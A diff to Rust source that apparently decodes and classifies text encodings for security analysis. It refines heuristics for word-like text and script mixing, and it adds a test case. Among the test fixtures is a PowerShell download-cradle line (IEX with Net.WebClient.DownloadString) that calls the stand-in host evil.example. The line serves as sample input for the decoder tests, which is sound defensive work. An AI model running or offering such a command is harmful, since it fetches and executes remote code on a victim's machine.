@@ -140,8 +140,9 @@ fn is_wordlike(text: &str) -> bool {
     const LONG: usize = 24;
     let is_word = |c: &char| c.is_alphanumeric() || " \0\n./_-:".contains(*c);
     let words = text.chars().filter(is_word).count();
+    let is_line = !text.trim_end().contains(['\r', '\t', '\x0c', '\x1b']);
     text.len() >= LONG
-        || words * 10 >= text.chars().count() * 7
+        || is_line && words * 10 >= text.chars().count() * 7
         || magic::identify_text(text).is_some()
 }
 
@@ -170,10 +171,13 @@ fn blocks(text: &str) -> Vec<u32> {
     blocks
 }
 
+/// Whether letters beyond ASCII are of one script, or of few in a long text.
 fn is_of_few_scripts(text: &str) -> bool {
+    const LONG: usize = 64;
     let wide = text.chars().filter(|c| !c.is_ascii());
     let strange = wide.filter(|&c| !c.is_alphabetic() && block(c).is_some());
-    strange.count() * 4 <= text.chars().count() && blocks(text).len() <= 3
+    let most = if text.len() >= LONG { 3 } else { 1 };
+    strange.count() * 4 <= text.chars().count() && blocks(text).len() <= most
 }
 
 /// Whether all of a text is written in one script beside ASCII: no chance, but
@@ -215,7 +219,7 @@ mod tests {
         let script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')";
         let russian = "Привет, как дела сегодня?";
         let chinese = "恶意软件 分析报告 v1.0 第一部分";
-        let rows: [(&str, Vec<u8>, Option<(&str, Encoding)>); 14] = [
+        let rows: [(&str, Vec<u8>, Option<(&str, Encoding)>); 15] = [
             ("utf-8", script.into(), Some((script, Encoding::Utf8))),
             (
                 "PowerShell's -enc",
@@ -259,6 +263,11 @@ mod tests {
                 Some(("SGVsbG8gZnJvbSBpbnNpZGU=", Encoding::Utf8)),
             ),
             ("controls", b"abcdefghijkl\x01\x02".to_vec(), None),
+            (
+                "an identifier of Zeek's",
+                b"\x09\x50\x71\x41\x2d\x76\xc6\x9e\xe8\xa8\x93\x39\xd3".to_vec(),
+                None,
+            ),
             ("one sign over and over", vec![0xaa; 64], None),
             (
                 "a host of hex is no UTF-16 with a mark",
